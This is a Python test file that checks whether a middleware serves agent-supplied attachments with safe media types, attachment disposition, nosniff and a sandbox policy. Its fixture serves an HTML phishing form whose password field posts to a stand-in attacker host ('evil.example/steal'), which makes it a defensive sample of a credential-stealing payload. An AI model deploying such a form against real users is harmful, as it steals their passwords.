"""An agent attachment is kept with a media type it really is, and served for display only when
it is an image a browser cannot run: the type an upstream gives is the agent's (or a
compromised tenant's) to choose, and a page served from the middleware's own address would be
a phishing page there."""

from __future__ import annotations

import socketserver
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support import loopback
from tests.support.emulator import Emulator
from tests.support.stack import Stack, box_token, running_stack
from tests.support.waiting import wait_for

PAGE = b"<!doctype html><form action='https://evil.example/steal'><input type=password></form>"
# The Content-Type each file is served with (raw bytes: some are no valid header value).
TYPES: dict[str, bytes] = {
    "listed.png": b"image/png, text/html",
    "snow.png": "image/png\u00e9\u2603".encode(),
    "drawing.svg": b"image/svg+xml",
    "page.html": b"text/html; charset=utf-8",
    "photo.png": b"image/png; name=photo",
}
# What the middleware serves each with: its type, and whether for display.
SERVED: dict[str, tuple[str, str]] = {
    "listed.png": ("application/octet-stream", "attachment"),
    "snow.png": ("application/octet-stream", "attachment"),
    "drawing.svg": ("image/svg+xml", "attachment"),
    "page.html": ("text/html", "attachment"),
    "photo.png": ("image/png", "inline"),
}


class _Files(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        line = self.rfile.readline().decode()
        while self.rfile.readline() not in (b"\r\n", b"\n", b""):
            pass
        name = line.split(" ")[1].lstrip("/")
        head = b"HTTP/1.1 200 OK\r\nContent-Type: " + TYPES[name] + b"\r\n"
        head += b"Content-Length: %d\r\nConnection: close\r\n\r\n" % len(PAGE)
        self.wfile.write(head + PAGE)


@pytest.fixture
def files() -> Iterator[str]:
    server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Files)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _reply_with(stack: Stack, thread_id: str, links: list[dict[str, Any]]) -> list[dict[str, Any]]:
    answer = loopback.post(
        f"{stack.url}/integration/box/2.0/channel/{stack.channel_id}/outbound",
        headers={"Authorization": f"Bearer {box_token(stack)}"},
        json={
            "thread": {"idOnExternalPlatform": thread_id},
            "messageContent": {"type": "TEXT", "payload": {"text": "the files"}},
            "attachments": links,
        },
    )
    assert answer.status_code == 200, answer.text
    event = wait_for(lambda: stack.platform.of_type("message.created"), what="the webhook")
    kept: list[dict[str, Any]] = event[0]["message"]["attachments"]
    return kept


def test_an_agent_attachment_is_served_as_what_it_is(
    tmp_path: Path, emulator: Emulator, files: str
) -> None:
    with running_stack(tmp_path, emulator, idle_timeout_seconds=0) as stack:
        thread_id = stack.customer_says("the files, please")["threadId"]
        wait_for(lambda: not stack.outbox(), what="the message forwarded")
        links = [{"friendlyName": name, "url": f"{files}/{name}"} for name in TYPES]
        kept = _reply_with(stack, thread_id, links)
        assert [a["url"].startswith(stack.url) for a in kept] == [True] * len(TYPES)
        for name, attachment in zip(TYPES, kept, strict=True):
            served = loopback.get(attachment["url"])
            assert served.status_code == 200, (name, served.text)
            media, disposition = SERVED[name]
            assert attachment["mimeType"] == media, name
            assert served.headers["content-type"].split(";")[0] == media, name
            assert served.headers["content-disposition"].startswith(disposition), name
            assert served.headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in served.headers["content-security-policy"]
